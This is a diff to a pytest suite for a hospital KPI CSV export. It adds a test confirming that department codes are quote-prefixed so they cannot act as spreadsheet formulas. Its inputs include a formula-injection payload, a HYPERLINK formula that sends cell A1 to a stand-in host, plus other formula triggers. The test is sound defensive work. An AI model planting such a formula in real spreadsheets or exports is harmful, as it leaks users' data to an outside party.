@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 from datetime import UTC, date, datetime
 
 import pytest
@@ -103,3 +105,14 @@ def test_the_csv_has_one_line_per_kpi_with_chinese_titles() -> None:
     assert len(lines) == 1 + len(KPI_KEYS)
     assert lines[1].split(",")[3:5] == ["ALL", "followup_inpatient_rate"]
     assert "出院患者回访率" in lines[1] and lines[1].endswith(",0.9500,0.9500,>=,yes")
+
+
+@pytest.mark.parametrize(
+    "department", ['=HYPERLINK("http://x.example/?"&A1,"看")', "+1", "@SUM(A1)"]
+)
+def test_a_department_code_is_never_a_formula_in_the_csv(department: str) -> None:
+    # Codes come from hospital systems and from staff opening complaints.
+    window = period_window(Period.MONTH, date(2026, 11, 1), TZ)
+    results = evaluate_all({}, DOMAIN_TARGETS)
+    rows = list(csv.reader(io.StringIO(to_csv(("month", window, department, r) for r in results))))
+    assert {row[3] for row in rows[1:]} == {"'" + department}
